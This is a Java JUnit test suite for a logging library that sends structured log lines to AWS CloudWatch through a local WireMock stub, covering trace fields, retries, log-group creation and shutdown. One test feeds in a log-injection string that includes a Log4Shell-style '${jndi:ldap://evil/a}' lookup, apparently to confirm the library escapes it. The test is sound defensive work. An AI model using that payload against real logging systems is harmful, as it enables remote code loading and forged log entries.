package io.cruddur.obs.cloudwatch;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.github.tomakehurst.wiremock.client.MappingBuilder;
import com.github.tomakehurst.wiremock.client.ResponseDefinitionBuilder;
import com.github.tomakehurst.wiremock.core.WireMockConfiguration;
import com.github.tomakehurst.wiremock.http.Fault;
import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import io.cruddur.obs.DeliveryReport;
import io.cruddur.obs.Obs;
import java.net.URI;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** The AWS SDK's real client over a real socket, from the logger to the wire. */
@Timeout(60)
class CloudWatchSinkTest {
    private static final Duration SOON = Duration.ofSeconds(20);
    private static final JsonMapper MAPPER = new JsonMapper();
    private static final String PUT = "Logs_20140328.PutLogEvents";

    @RegisterExtension
    static final WireMockExtension SERVICE = WireMockExtension.newInstance()
            .options(WireMockConfiguration.wireMockConfig().dynamicPort().bindAddress("127.0.0.1"))
            .build();

    private Obs obs;
    private Logger log;

    @BeforeEach
    void start() {
        start(Duration.ofMillis(200));
    }

    private void start(Duration shutdownTimeout) {
        obs = Obs.builder()
                .service("backend-flask")
                .environment("test")
                .logGroup("cruddur")
                .logStream("stream")
                .region("eu-central-1")
                .cloudWatchEndpoint(URI.create(SERVICE.baseUrl()))
                .anonymousAws(true)
                .shutdownTimeout(shutdownTimeout)
                .build();
        log = LoggerFactory.getLogger("app.Home");
    }

    @AfterEach
    void stop() {
        obs.close();
        assertThat(obs.report().isBalanced()).isTrue();
    }

    private static MappingBuilder call(String target) {
        return post(urlEqualTo("/")).withHeader("X-Amz-Target", equalTo(target));
    }

    private static ResponseDefinitionBuilder error(int status, String code) {
        return aResponse()
                .withStatus(status)
                .withHeader("Content-Type", "application/x-amz-json-1.1")
                .withBody("{\"__type\":\"" + code + "\",\"message\":\"because\"}");
    }

    private DeliveryReport.Sink flushed() {
        return obs.flush(SOON).sinks().get(0);
    }

    private static List<JsonNode> sentEvents() {
        List<JsonNode> events = new ArrayList<>();
        for (LoggedRequest request :
                SERVICE.findAll(postRequestedFor(urlEqualTo("/")).withHeader("X-Amz-Target", equalTo(PUT)))) {
            MAPPER.readTree(request.getBodyAsString())
                    .path("logEvents")
                    .forEach(event ->
                            events.add(MAPPER.readTree(event.path("message").asString())));
        }
        return events;
    }

    @Test
    void aLineCarriesItsTraceAndItsFields() {
        SERVICE.stubFor(call(PUT).willReturn(okJson("{}")));
        MDC.put("tenant", "t1");
        String traceId = obs.trace("request").call(span -> {
            log.atInfo().addKeyValue("count", 3).addKeyValue("who", "andrew").log("served {}", "home");
            return span.context().xrayTraceId();
        });
        MDC.remove("tenant");
        assertThat(flushed().delivered()).isEqualTo(1);
        JsonNode line = sentEvents().get(0);
        assertThat(line.path("message").asString()).isEqualTo("served home");
        assertThat(line.path("level").asString()).isEqualTo("INFO");
        assertThat(line.path("logger").asString()).isEqualTo("app.Home");
        assertThat(line.path("service").asString()).isEqualTo("backend-flask");
        assertThat(line.path("environment").asString()).isEqualTo("test");
        assertThat(line.path("xrayTraceId").asString()).isEqualTo(traceId);
        assertThat(line.path("traceId").asString()).hasSize(32);
        assertThat(line.path("spanId").asString()).hasSize(16);
        assertThat(line.at("/fields/count").asInt()).isEqualTo(3);
        assertThat(line.at("/mdc/tenant").asString()).isEqualTo("t1");
    }

    @Test
    void anInjectedLineStaysOneValidLine() {
        SERVICE.stubFor(call(PUT).willReturn(okJson("{}")));
        String evil = "x\r\n{\"level\":\"ERROR\"}\u001b[31m ${jndi:ldap://evil/a}";
        log.info("user said {}", evil);
        flushed();
        assertThat(sentEvents().get(0).path("message").asString()).isEqualTo("user said " + evil);
    }

    @Test
    void anExceptionIsPartOfTheLine() {
        SERVICE.stubFor(call(PUT).willReturn(okJson("{}")));
        log.error("failed", new IllegalStateException("outer", new RuntimeException("inner")));
        flushed();
        assertThat(sentEvents().get(0).path("exception").asString())
                .startsWith("java.lang.IllegalStateException: outer\n\tat ")
                .contains("Caused by: java.lang.RuntimeException: inner");
    }

    @Test
    void aMissingGroupIsCreatedAndTheBatchSentAgain() {
        SERVICE.stubFor(call(PUT).inScenario("create").willReturn(error(400, "ResourceNotFoundException")));
        SERVICE.stubFor(call("Logs_20140328.CreateLogGroup")
                .inScenario("create")
                .willReturn(error(400, "ResourceAlreadyExistsException")));
        SERVICE.stubFor(call("Logs_20140328.CreateLogStream")
                .inScenario("create")
                .willSetStateTo("created")
                .willReturn(okJson("{}")));
        SERVICE.stubFor(
                call(PUT).inScenario("create").whenScenarioStateIs("created").willReturn(okJson("{}")));
        log.info("hello");
        assertThat(flushed().delivered()).isEqualTo(1);
    }

    @Test
    void aGroupThatOthersAreCreatingIsWaitedFor() {
        SERVICE.stubFor(call(PUT).inScenario("race").willReturn(error(400, "ResourceNotFoundException")));
        SERVICE.stubFor(call("Logs_20140328.CreateLogStream")
                .inScenario("race")
                .willReturn(error(400, "ResourceNotFoundException")));
        SERVICE.stubFor(call("Logs_20140328.CreateLogGroup")
                .inScenario("race")
                .willSetStateTo("created")
                .willReturn(error(400, "OperationAbortedException")));
        SERVICE.stubFor(
                call(PUT).inScenario("race").whenScenarioStateIs("created").willReturn(okJson("{}")));
        log.info("a");
        log.info("b");
        DeliveryReport.Sink sink = flushed();
        assertThat(sink.lost()).isEmpty();
        assertThat(sink.delivered()).isEqualTo(2);
    }

    @Test
    void anAnswerThatIsNotAboutTheEventsKeepsThem() {
        SERVICE.stubFor(call(PUT)
                .inScenario("auth")
                .willSetStateTo("mended")
                .willReturn(error(400, "MissingAuthenticationTokenException")));
        SERVICE.stubFor(
                call(PUT).inScenario("auth").whenScenarioStateIs("mended").willReturn(okJson("{}")));
        log.info("kept");
        await().until(() -> !sentEvents().isEmpty());
        assertThat(flushed().delivered()).isEqualTo(1);
    }

    @Test
    void throttlingAndBrokenConnectionsAreRetried() {
        SERVICE.stubFor(
                call(PUT).inScenario("retry").willSetStateTo("1").willReturn(error(400, "ThrottlingException")));
        SERVICE.stubFor(call(PUT)
                .inScenario("retry")
                .whenScenarioStateIs("1")
                .willSetStateTo("2")
                .willReturn(error(503, "ServiceUnavailableException")));
        SERVICE.stubFor(call(PUT)
                .inScenario("retry")
                .whenScenarioStateIs("2")
                .willSetStateTo("3")
                .willReturn(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER)));
        SERVICE.stubFor(call(PUT).inScenario("retry").whenScenarioStateIs("3").willReturn(okJson("{}")));
        log.info("hello");
        assertThat(flushed().delivered()).isEqualTo(1);
    }

    @Test
    void eventsRejectedWithASuccessAreCounted() {
        SERVICE.stubFor(call(PUT).willReturn(okJson("{\"rejectedLogEventsInfo\":{\"tooOldLogEventEndIndex\":1}}")));
        log.info("a");
        log.info("b");
        DeliveryReport.Sink sink = flushed();
        assertThat(sink.lost()).containsKey("too_old");
        assertThat(sink.accepted()).isEqualTo(2);
        assertThat(sink.delivered() + sink.lostTotal()).isEqualTo(2);
    }

    @Test
    void refusedCredentialsKeepTheEvents() {
        SERVICE.stubFor(call(PUT).willReturn(error(400, "UnrecognizedClientException")));
        log.info("kept");
        await().until(() -> !sentEvents().isEmpty());
        assertThat(obs.report().sinks().get(0).pending()).isEqualTo(1);
        SERVICE.stubFor(call(PUT).willReturn(okJson("{}")));
        assertThat(flushed().delivered()).isEqualTo(1);
    }

    @Test
    void whatIsLoggedAboutDeliveryIsNotShipped() {
        SERVICE.stubFor(call(PUT).willReturn(okJson("{}")));
        LoggerFactory.getLogger("io.cruddur.obs.cloudwatch.CloudWatchSink").error("about us");
        LoggerFactory.getLogger("io.cruddur.obs.delivery.Worker").error("about us");
        log.info("about the application");
        assertThat(flushed().accepted()).isEqualTo(1);
    }

    @Test
    void aValueThatCannotBeRenderedCostsOnlyItself() {
        SERVICE.stubFor(call(PUT).willReturn(okJson("{}")));
        Object hostile = new Object() {
            @Override
            public String toString() {
                throw new IllegalStateException("no");
            }
        };
        log.atInfo().addKeyValue("k", hostile).log("still here");
        log.info("{}", hostile);
        log.info((String) null);
        assertThat(flushed().delivered()).isEqualTo(3);
        assertThat(sentEvents().get(0).at("/fields/k").asString()).contains("IllegalStateException");
    }

    @Test
    void whenClosedTheAppenderIsGone() {
        SERVICE.stubFor(call(PUT).willReturn(okJson("{}")));
        obs.close();
        // The SDK's client is made with the first batch, which takes its time.
        start(SOON);
        log.info("before");
        obs.close();
        log.info("after");
        assertThat(obs.report().sinks().get(0)).satisfies(sink -> {
            assertThat(sink.accepted()).isEqualTo(1);
            assertThat(sink.delivered()).isEqualTo(1);
            assertThat(sink.lost()).isEqualTo(Map.of());
        });
    }
}
